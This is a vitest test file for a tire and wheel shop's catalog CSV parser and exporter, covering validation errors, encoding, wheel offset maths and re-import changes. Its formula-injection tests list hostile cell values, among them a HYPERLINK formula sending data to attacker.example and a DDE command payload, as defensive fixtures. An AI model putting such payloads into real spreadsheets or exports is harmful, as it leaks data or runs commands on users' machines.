import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { CSV_COLUMNS, CSV_TEMPLATE, catalogToCsv, decodeCsvBytes, importChanges, parseCatalogCsv } from "./csv";
import { INVENTED_WHEEL } from "./wheelTestUtil";

const HEAD = CSV_COLUMNS.join(",");
const row = (cells: Partial<Record<(typeof CSV_COLUMNS)[number], string>>) => CSV_COLUMNS.map((c) => cells[c] ?? "").join(",");
/** A wheel row with every cell the wheel checks below do not vary (width and position are the cases'). */
const WHEEL = { ...INVENTED_WHEEL, qty_on_hand: "1" };

describe("catalog CSV", () => {
  it("reads the template: every kind, sizes through the engine", () => {
    const r = parseCatalogCsv(CSV_TEMPLATE);
    expect(r.fileErrors).toEqual([]);
    expect(r.errors).toEqual([]);
    expect(r.items.map((i) => i.kind)).toEqual(["tire", "wheel", "wheel", "service"]);
    // 35x12.50R17LT: flotation, D as designated = 35 in = 889 mm (TRA flotation designation; 1 in = 25.4 mm, NIST SP 811).
    expect(r.items[0]).toMatchObject({ tire_rim_in: 17, tire_diameter_mm: 889, price_cents: 38900, qty_on_hand: 8 });
    // 4.5 in backspacing to the flange on a 9 in wheel: 4.0 in to the bead seat, offset (4.0 − 4.5) × 25.4 = −12.7 mm
    // (BS = W/2 + offset, flange allowance 0.5 in: lib/fitment README, common practice, no source).
    expect(r.items[2]).toMatchObject({
      wheel_offset_mm: -12.7,
      wheel_backspacing_in: 4.5,
      wheel_backspacing_reference: "flange",
      beadlock: true,
      bolt_pattern: "6x139.7",
    });
    expect(r.items[3]).toMatchObject({ service_type: "mount_balance", service_unit: "per_wheel", qty_on_hand: null });
  });

  it("round-trips through export", () => {
    const a = parseCatalogCsv(CSV_TEMPLATE).items.map(({ row: _r, ...i }) => i);
    const b = parseCatalogCsv(catalogToCsv(a)).items.map(({ row: _r, ...i }) => i);
    expect(b).toEqual(a);
  });

  it("reports each bad row with its row number, column and message; good rows still pass", () => {
    const text = [
      HEAD,
      row({ kind: "tire", sku: "T1", description: "Good tire", price: "199.99", qty_on_hand: "4", tire_size: "LT285/70R17" }),
      row({ kind: "tire", sku: "T2", description: "Bad size", price: "150", qty_on_hand: "4", tire_size: "35 by 12" }),
      row({
        kind: "wheel",
        sku: "W1",
        description: "No pattern",
        price: "120",
        qty_on_hand: "2",
        wheel_diameter_in: "17",
        wheel_width_in: "9",
        wheel_offset_mm: "0",
      }),
      row({ kind: "gizmo", sku: "G1", description: "Unknown", price: "1" }),
      row({ kind: "service", sku: "S1", description: "Mount", price: "-3", service_type: "mount_balance" }),
      row({ kind: "tire", sku: "t1", description: "Same SKU in other case", price: "10", qty_on_hand: "1", tire_size: "LT285/70R17" }),
      row({ kind: "tire", sku: "T3", description: "Negative stock", price: "10", qty_on_hand: "-1", tire_size: "LT285/70R17" }),
    ].join("\n");
    const r = parseCatalogCsv(text);
    expect(r.total).toBe(7);
    expect(r.items.map((i) => i.sku)).toEqual(["T1"]);
    const by = (n: number) => r.errors.filter((e) => e.row === n);
    expect(by(3)).toEqual([expect.objectContaining({ column: "tire_size" })]);
    expect(by(3)[0]!.message).toMatch(/35 by 12/);
    expect(by(4)).toEqual([expect.objectContaining({ column: "bolt_pattern" })]);
    expect(by(5)[0]).toMatchObject({ column: "kind" });
    expect(by(6)[0]).toMatchObject({ column: "price" });
    expect(by(7)[0]).toMatchObject({ column: "sku", message: expect.stringMatching(/also on row 2/) });
    expect(by(8)[0]).toMatchObject({ column: "qty_on_hand" });
  });

  it("numbers rows as the file shows them: blank lines keep their numbers, counts are rows", () => {
    const lines = [
      HEAD, // row 1
      row({ kind: "tire", sku: "T1", description: "Good", price: "10", qty_on_hand: "1", tire_size: "LT285/70R17" }), // 2
      "", // 3: a blank line
      row({ kind: "tire", sku: "T2", description: "Bad size", price: "10", qty_on_hand: "1", tire_size: "35 by 12" }), // 4
      ",,,,,,,,,,,,,,,", // 5: a row of empty cells, blank in a spreadsheet
      row({ kind: "tire", sku: "T3", description: "Two problems", price: "ten", qty_on_hand: "1", tire_size: "35 by 12" }), // 6
      "   ", // 7
      row({ kind: "tire", sku: "T4", description: "Good", price: "10", qty_on_hand: "1", tire_size: "LT285/70R17" }), // 8
      row({ kind: "tire", sku: "t1", description: "Same SKU", price: "10", qty_on_hand: "1", tire_size: "LT285/70R17" }), // 9
    ];
    for (const nl of ["\n", "\r\n"]) {
      const r = parseCatalogCsv(lines.join(nl) + nl);
      expect(r.total).toBe(5);
      expect(r.items.map((i) => [i.sku, i.row])).toEqual([
        ["T1", 2],
        ["T4", 8],
      ]);
      expect(r.errors.map((e) => [e.row, e.column])).toEqual([
        [4, "tire_size"],
        [6, "price"],
        [6, "tire_size"],
        [9, "sku"],
      ]);
      expect(r.errors[3]!.message).toMatch(/also on row 2/);
      // Three rows are skipped; they carry four problems (row 6 counts once).
      expect(r.skippedRows).toBe(3);
      expect(r.errors).toHaveLength(4);
    }
  });

  it("a quoted cell with a line break is one spreadsheet row; the report also names the text line", () => {
    const text = [
      HEAD,
      row({ kind: "service", sku: "S1", description: '"Mount,\nand balance"', price: "30", service_type: "mount_balance" }), // row 2, lines 2–3
      row({ kind: "service", sku: "S2", description: "Bad unit", price: "30", service_type: "mount_balance", service_unit: "per_day" }), // row 3, line 4
    ].join("\n");
    const r = parseCatalogCsv(text);
    expect(r.items).toMatchObject([{ sku: "S1", row: 2, description: "Mount,\nand balance" }]);
    expect(r.errors).toEqual([expect.objectContaining({ row: 3, line: 4, column: "service_unit" })]);
  });

  it("says in its own words why a row could not be read, with the row number", () => {
    const text = [
      HEAD,
      row({ kind: "tire", sku: "T1", description: "Good", price: "10", qty_on_hand: "1", tire_size: "LT285/70R17" }),
      "tire,T2,Short row,10",
    ].join("\n");
    const r = parseCatalogCsv(text);
    expect(r.errors).toEqual([
      { row: 3, column: "", message: "This row has 4 cells; the header row has 16. Check for a missing or extra comma." },
    ]);
    const unclosed = parseCatalogCsv([HEAD, 'tire,T3,"Unclosed quote,10,1,LT285/70R17,,,,,,,,,,'].join("\n"));
    expect(unclosed.errors[0]).toMatchObject({ row: 2, column: "" });
    expect(unclosed.errors[0]!.message).toMatch(/quote/);
    expect(unclosed.errors[0]!.message).not.toMatch(/Quoted field unterminated|malformed/);
  });

  it("words every wheel problem for the person who made the file, naming the column", () => {
    const base = WHEEL;
    const cases: [Partial<Record<(typeof CSV_COLUMNS)[number], string>>, string][] = [
      [{ wheel_width_in: "", wheel_offset_mm: "0" }, "wheel_width_in"],
      [{ wheel_width_in: "nine", wheel_offset_mm: "0" }, "wheel_width_in"],
      [{ wheel_width_in: "40", wheel_offset_mm: "0" }, "wheel_width_in"],
      [{ wheel_width_in: "9", wheel_offset_mm: "abc" }, "wheel_offset_mm"],
      [{ wheel_width_in: "9", wheel_backspacing_in: "x", wheel_backspacing_reference: "flange" }, "wheel_backspacing_in"],
      [{ wheel_width_in: "9", wheel_backspacing_in: "25", wheel_backspacing_reference: "flange" }, "wheel_backspacing_in"],
    ];
    for (const [cells, column] of cases) {
      const r = parseCatalogCsv([HEAD, row({ ...base, ...cells })].join("\n"));
      expect(r.errors, JSON.stringify(cells)).toEqual([expect.objectContaining({ column })]);
      const { message } = r.errors[0]!;
      expect(message, message).not.toMatch(/NaN|finite|backspacingIn|widthIn|offsetMm|measuredFrom/);
      expect(message, message).toMatch(/Wheel width|Offset|Backspacing|wheel_width_in|wheel_offset_mm|wheel_backspacing_in/);
    }
  });

  it("refuses wrong headers as a whole-file problem", () => {
    const r = parseCatalogCsv("Item,Cost,Colour\nA,1,red\n");
    expect(r.fileErrors.join(" ")).toMatch(/Unknown columns: "item", "cost", "colour"/);
    expect(r.fileErrors.join(" ")).toMatch(/Missing columns: kind, sku, description, price/);
    expect(r.items).toEqual([]);
  });

  it("refuses bytes that are not UTF-8 text", () => {
    expect(decodeCsvBytes(new Uint8Array([0x6b, 0x69, 0x6e, 0x64, 0xff, 0xfe, 0x0a]))).toEqual({
      error: expect.stringMatching(/not UTF-8/),
    });
    expect(decodeCsvBytes(new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0x00, 0x00]))).toEqual({ error: expect.stringMatching(/NUL bytes/) });
    expect(decodeCsvBytes(new TextEncoder().encode("\uFEFFkind,sku"))).toEqual({ text: "kind,sku" });
    expect(decodeCsvBytes(new Uint8Array())).toEqual({ error: "The file is empty." });
  });

  it("needs offset or backspacing on a wheel, never both, and the reference with backspacing", () => {
    const base = { ...WHEEL, wheel_width_in: "9" };
    expect(parseCatalogCsv([HEAD, row({ ...base, wheel_offset_mm: "0", wheel_backspacing_in: "5" })].join("\n")).errors[0]).toMatchObject({
      column: "wheel_offset_mm",
    });
    expect(parseCatalogCsv([HEAD, row({ ...base, wheel_backspacing_in: "5" })].join("\n")).errors[0]).toMatchObject({
      column: "wheel_backspacing_reference",
    });
    // 5 in to the bead seat on a 9 in wheel: offset = (5 − 4.5) × 25.4 = +12.7 mm (same formula as above).
    expect(
      parseCatalogCsv([HEAD, row({ ...base, wheel_backspacing_in: "5", wheel_backspacing_reference: "bead-seat" })].join("\n")).items[0]!
        .wheel_offset_mm,
    ).toBeCloseTo(12.7, 9);
  });

  it("reads a file with the earlier header backspacing_from, and names that column in its problems", () => {
    const old = HEAD.replace("wheel_backspacing_reference", "backspacing_from");
    const base = { ...WHEEL, wheel_width_in: "9", wheel_backspacing_in: "5" };
    // Same cells, same places: only the header's name differs.
    const good = parseCatalogCsv([old, row({ ...base, wheel_backspacing_reference: "bead-seat" })].join("\n"));
    expect(good.fileErrors).toEqual([]);
    // 5 in to the bead seat on a 9 in wheel: (5 − 4.5) × 25.4 = +12.7 mm (BS = W/2 + offset; 1 in = 25.4 mm, NIST SP 811).
    expect(good.items[0]).toMatchObject({ wheel_backspacing_reference: "bead-seat", wheel_backspacing_in: 5 });
    expect(good.items[0]!.wheel_offset_mm).toBeCloseTo(12.7, 9);
    const bad = parseCatalogCsv([old, row({ ...base, wheel_backspacing_reference: "rim" })].join("\n"));
    expect(bad.errors).toEqual([expect.objectContaining({ column: "backspacing_from", message: expect.stringMatching(/measured to/) })]);
    // Both names at once is one column named twice.
    expect(parseCatalogCsv(`${HEAD},backspacing_from\n`).fileErrors.join(" ")).toMatch(
      /Column named twice: wheel_backspacing_reference\. backspacing_from is the earlier name/,
    );
    // Export writes the one name.
    expect(catalogToCsv(good.items.map(({ row: _r, ...i }) => i)).split("\r\n")[0]).toBe(HEAD);
  });
});

describe("catalog CSV export against formula injection (OWASP CSV Injection guidance)", () => {
  const base = parseCatalogCsv(CSV_TEMPLATE).items.map(({ row: _r, ...i }) => i);
  const hostile = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''-twice",
    "'plain apostrophe",
  ];
  const items = hostile.map((description, k) => ({ ...base[k % 2 ? 1 : 3]!, sku: `X-${k}`, description }));

  it("writes no text cell that a spreadsheet would run as a formula", () => {
    const rows = Papa.parse<string[]>(catalogToCsv(items), { skipEmptyLines: true }).data.slice(1);
    const d = CSV_COLUMNS.indexOf("description");
    for (const cells of rows) expect(cells[d], cells[d]).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows[0]![d]).toBe(`'${hostile[0]}`);
  });

  it("keeps a negative offset a number: numeric columns are not quoted", () => {
    const rows = Papa.parse<string[]>(catalogToCsv(base), { skipEmptyLines: true }).data.slice(1);
    // The template's 17x9 wheel at −12 mm (an invented product).
    expect(rows[1]![CSV_COLUMNS.indexOf("wheel_offset_mm")]).toBe("-12");
  });

  it("reads the exported file back to the same values (round trip)", () => {
    const back = parseCatalogCsv(catalogToCsv(items));
    expect(back.errors).toEqual([]);
    expect(back.items.map(({ row: _r, ...i }) => i)).toEqual(items.map((i) => ({ ...i, description: i.description.trim() })));
  });
});

describe("importChanges: what a re-import would change on an item the shop has", () => {
  const [tire] = parseCatalogCsv(CSV_TEMPLATE).items;
  // As PostgreSQL hands the stored row back: every column present, the missing ones null, doubles as numbers.
  const stored = { ...tire!, tire_rim_in: 17.0, beadlock: false };

  it("a row equal to the stored item changes nothing, a missing value reading as null", () => {
    expect(importChanges(tire!, stored)).toBe(false);
    expect(importChanges({ ...tire!, bolt_pattern: undefined as unknown as null }, stored)).toBe(false);
  });

  it("any imported field that differs is a change: price, stock, a null becoming a figure", () => {
    expect(importChanges({ ...tire!, price_cents: tire!.price_cents + 1 }, stored)).toBe(true);
    expect(importChanges({ ...tire!, qty_on_hand: null }, stored)).toBe(true);
    expect(importChanges({ ...tire!, center_bore_mm: 108 }, stored)).toBe(true);
  });
});
